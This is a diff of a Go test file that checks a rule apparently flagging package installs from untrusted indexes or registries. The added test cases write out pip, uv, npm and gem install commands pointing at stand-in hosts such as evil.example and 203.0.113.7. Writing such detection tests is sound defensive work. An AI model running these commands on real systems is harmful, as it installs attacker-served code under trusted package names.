@@ -109,6 +109,19 @@ func TestRCEPackageFromURL(t *testing.T) {
 		cmdCase("pip install -r requirements.txt", false),
 		cmdCase("pip install requests==2.32.0", false),
 		cmdCase("npm install", false),
-		cmdCase("pip install --index-url https://pypi.example/simple requests", false),
+		// The index value is not taken for a package URL, but an index on
+		// a host that is not trusted serves any code under a known name.
+		cmdCase("pip install --index-url https://pypi.example/simple requests", true),
+		cmdCase("pip install --extra-index-url http://203.0.113.7/simple internal-utils", true),
+		cmdCase("pip install -i http://203.0.113.7:8080/simple requests", true),
+		cmdCase("uv pip install --index-url=https://evil.example/simple x", true),
+		cmdCase("npm install --registry http://203.0.113.7:4873 left-pad", true),
+		cmdCase("gem install rails --source http://203.0.113.7/", true),
+	})
+	runRuleCasesWith(t, Config{TrustedHosts: []string{"pypi.org", "registry.npmjs.org", "artifactory.corp.example"}}, "rce.package-from-url", []ruleCase{
+		cmdCase("pip install --index-url https://artifactory.corp.example/api/pypi/simple requests", false),
+		cmdCase("pip install --index-url https://pypi.example/simple requests", true),
+		cmdCase("pip install --index-url https://pypi.org/simple requests", false),
+		cmdCase("npm install --registry=https://registry.npmjs.org lodash", false),
 	})
 }
